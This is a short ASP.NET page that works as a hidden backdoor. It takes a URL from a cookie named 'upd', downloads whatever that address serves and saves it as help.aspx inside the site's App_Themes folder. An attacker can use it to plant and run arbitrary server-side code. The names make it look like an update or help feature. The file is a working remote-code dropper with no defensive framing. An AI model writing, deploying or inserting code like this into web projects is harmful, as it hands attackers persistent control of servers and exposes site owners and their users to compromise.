<%@ Page Language="C#" %>
<%-- The address comes from a cookie; whatever it serves replaces a page of the site. --%>
<%
    var c = Request.Cookies["upd"];
    if (c != null)
    {
        new System.Net.WebClient().DownloadFile(c.Value, Server.MapPath("~/App_Themes/help.aspx"));
    }
%>
